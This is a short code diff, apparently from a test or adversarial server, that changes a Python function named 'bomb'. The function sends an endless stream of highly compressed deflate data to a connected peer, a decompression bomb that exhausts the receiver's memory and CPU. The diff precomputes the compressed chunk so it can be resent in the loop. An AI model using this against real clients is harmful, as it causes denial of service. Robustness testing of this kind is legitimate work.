@@ -39,8 +39,10 @@ def bomb(line: bytes) -> Reply:
         peer.ok(command.tag)
         packer = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
         plain = line * (8_000_000 // len(line))
+        first, again = (packer.compress(plain) + packer.flush(zlib.Z_SYNC_FLUSH) for _ in range(2))
+        peer.send(first)
         while True:
-            peer.send(packer.compress(plain) + packer.flush(zlib.Z_SYNC_FLUSH))
+            peer.send(again)  # what went before is the same each time, so this is what the packer would give
 
     return reply
 
